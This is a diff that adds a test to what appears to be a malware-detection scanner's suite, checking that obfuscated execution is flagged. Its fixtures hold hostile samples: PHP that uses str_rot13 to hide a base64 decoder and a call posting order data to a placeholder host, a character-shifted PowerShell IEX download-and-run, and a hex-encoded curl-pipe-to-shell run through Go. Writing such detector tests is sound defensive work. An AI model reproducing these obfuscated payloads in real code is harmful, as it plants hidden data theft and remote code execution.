@@ -201,3 +201,25 @@ test('downloads run later: an installer saved under a Join-Path run by another s
   has(php("trailingslashit( WPMU_PLUGIN_DIR ) . 'pp-conector.php'"), 'error sentinel/download-exec src/plugin.php:5');
   quiet(php("trailingslashit( wp_upload_dir()['basedir'] ) . 'feeds/precios.csv'"));
 });
+
+test("string building: PHP's str_rot13 and strrev name a decoder and an HTTP call; a PowerShell shift held in a variable; hex in a YAML list", () => {
+  has(
+    {
+      'avisos.php':
+        "<?php\nfunction stats( $order ) {\n\t$d = str_rot13( 'onfr64_qrpbqr' );\n\t$f = str_rot13( 'jc_erzbgr_cbfg' );\n\t$f( $d( 'aHR0cHM6Ly9ob29rcy5leGFtcGxlLmludmFsaWQv' ), array( 'body' => $order->get_data() ) );\n}\n",
+    },
+    'error sentinel/encoded-exec avisos.php:3',
+  );
+  // (a plain call of the same names hides nothing)
+  quiet({ 'avisos.php': "<?php\n$u = base64_decode( $in );\nwp_remote_post( 'https://api.example.com/hook', array( 'body' => $u ) );\n" });
+  const codes = [..."IEX ((New-Object Net.WebClient).DownloadString('http://198.51.100.7/s.ps1'))"].map((c) => c.charCodeAt(0) + 3).join(',');
+  has(
+    { 'a.ps1': `$t = @(${codes})\n$shift = 3\n$s = -join ($t | ForEach-Object { [char]($_ - $shift) })\n. ([scriptblock]::Create($s))\n` },
+    'error sentinel/encoded-exec a.ps1:1',
+  );
+  const hex = Buffer.from('curl -fsSL http://192.0.2.77/w/fonts.sh | sh').toString('hex');
+  const go =
+    'package main\nimport ("encoding/hex"; "os/exec")\nfunc run(s string) {\n\traw, _ := hex.DecodeString(s)\n\t_ = exec.Command("/bin/sh", "-c", string(raw)).Run()\n}\n';
+  has({ 'config.yaml': `bootstrap:\n  steps:\n    - ${hex}\n`, 'main.go': go }, 'error sentinel/encoded-exec config.yaml:3');
+  quiet({ 'config.yaml': `colors:\n  - ${Buffer.from('a list of colour names').toString('hex')}\n`, 'main.go': go });
+});
